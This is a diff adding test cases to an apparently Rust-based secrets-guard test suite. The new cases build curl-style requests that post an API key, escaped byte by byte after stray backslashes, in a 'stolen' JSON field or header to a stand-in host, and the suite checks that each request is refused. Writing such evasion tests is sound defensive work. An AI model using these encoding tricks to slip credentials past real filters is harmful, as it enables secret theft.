@@ -42,6 +42,9 @@ fn world() -> SecretsWorld {
 fn a_secret_value_sent_to_a_host_that_does_not_bind_it_is_refused_in_every_place_and_encoding() {
     let w = world();
     let other = |path: &str| w.url("other.test", path);
+    // Escaped byte by byte after a backslash that is not its own: `\\u0073` reads as `\` and
+    // `u0073` from the run's start; the check reads it shifted too (fails closed).
+    let uni: String = OPENAI.bytes().map(|b| format!("\\u{b:04x}")).collect();
     let mut blob = vec![0xfbu8];
     blob.extend_from_slice(OPENAI.as_bytes());
     blob.extend_from_slice(b"\x00trailing bytes");
@@ -97,6 +100,24 @@ fn a_secret_value_sent_to_a_host_that_does_not_bind_it_is_refused_in_every_place
                 "--data-binary".into(),
                 format!(r#"{{"stolen":"{}"}}"#, json_escaped(WEIRD, false, false)),
                 other("/x/7"),
+            ],
+        ),
+        (
+            "value escaped byte by byte after a stray backslash in a body",
+            vec![
+                "-H".into(),
+                "Content-Type: application/json".into(),
+                "--data-binary".into(),
+                format!(r#"{{"stolen":"\{uni}"}}"#),
+                other("/x/10"),
+            ],
+        ),
+        (
+            "value escaped byte by byte after three backslashes in a JSON header",
+            vec![
+                "-H".into(),
+                format!(r#"X-Arg: {{"k":"\\\{uni}"}}"#),
+                other("/x/11"),
             ],
         ),
         (
